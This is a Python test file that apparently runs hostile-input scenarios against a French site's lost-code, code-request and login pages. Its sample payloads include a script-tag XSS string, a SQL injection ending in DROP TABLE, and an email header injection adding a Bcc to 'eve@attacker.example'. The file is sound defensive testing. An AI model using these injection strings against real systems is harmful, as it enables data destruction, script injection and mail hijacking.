"""Hostile text in each field: markup, quotes, very long text, line ends."""

from harness import Walk, scenario

from . import steps

MARKUP = '<script>alert("x")</script><b>gras</b>'
QUOTES = "' OR '1'='1' -- \" ; DROP TABLE accounts"
LONG = "É" * 5000
LINES = "x\r\nBcc: eve@attacker.example\r\n\r\nbonjour"
HOSTILE = (MARKUP, QUOTES, LONG, LINES)
EACH = (f"{MARKUP}{QUOTES}", LONG, LINES)  # all of them, by three movements a field


@scenario(labels=("hostile",))
async def hostile_search(walk: Walk) -> None:
    """Hostile text in each field of step 2 does no harm."""
    await steps.open_lost_codes(walk)
    await steps.lost_both(walk)
    for name in ("siret", "bcr", "contract", "last_name", "first_name"):
        for text in EACH:
            await steps.search(walk, **{name: text}, trying="search.hostile")
    await steps.search(walk)


@scenario(labels=("hostile",))
async def hostile_request(walk: Walk) -> None:
    """Hostile text in each field of step 3 does no harm, and no mail is sent."""
    await steps.open_lost_codes(walk)
    await steps.lost_confidential_code(walk)
    for name in ("last_name", "first_name", "identifier", "email", "answer"):
        for text in EACH:
            await steps.request_code(walk, **{name: text}, trying="regenerate.hostile")
    await steps.request_code(
        walk,
        email=f"{walk.account.email}\r\nBcc: eve@attacker.example",
        trying="regenerate.hostile",
    )
    await steps.request_code(walk)
    await walk.receive_mail()


@scenario(labels=("hostile",))
async def hostile_login(walk: Walk) -> None:
    """Hostile text in the login window and on the certification page does no harm."""
    confidential, certification = await steps.regenerate(walk)
    for text in HOSTILE:
        await walk.fill({"Code identifiant": text, "Code confidentiel": confidential})
        await walk.press("Je valide", trying="login.hostile")
        await steps.log_in(walk, text, trying="login.hostile")
    await steps.log_in(walk, confidential, trying="certification.asked")
    for text in (f"{MARKUP}{QUOTES}{LINES}", LONG):  # a third would be the last try
        await steps.certify(walk, text, trying="certification.hostile")
    await steps.certify(walk, certification, trying="certification.right-after-two")
